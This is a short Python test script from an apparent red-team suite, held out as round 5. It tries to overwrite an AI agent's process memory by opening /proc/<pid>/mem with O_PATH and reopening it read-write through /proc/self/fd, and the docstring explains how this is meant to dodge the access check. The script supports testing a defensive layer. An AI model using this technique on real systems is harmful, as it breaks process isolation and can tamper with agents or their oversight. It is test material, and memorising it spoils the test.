"""Round 5: take an O_PATH handle on /proc/<pid>/mem, then reopen it read-write through /proc/self/fd/<n>.

An O_PATH open does not open the file (no access check, no mem_open); the
second open names only the caller's own fd link, never the agent's pid, and
is the one that gets the agent's memory.
"""

from __future__ import annotations

import os
from typing import Any

from redteam import rt

GAP = 2
MODE = "external"
TARGET = "host"
HELD_OUT = True
ROUND = 5
EXPECT = ("L5",)


def run(args: dict[str, Any]) -> None:
    pid, proc = int(args["pid"]), args.get("proc", "/proc")
    addr = rt.target_addr(args, pid, proc)
    t = rt.now()
    handle = os.open(f"{proc}/{pid}/mem", os.O_PATH)
    try:
        fd = os.open(f"/proc/self/fd/{handle}", os.O_RDWR)
    finally:
        os.close(handle)
    n = rt.rewrite_mem(fd, addr)
    rt.report(t, n == 32, f"O_PATH {proc}/{pid}/mem, reopened O_RDWR via /proc/self/fd: rewrote {n} bytes")


if __name__ == "__main__":
    rt.main(run, globals())
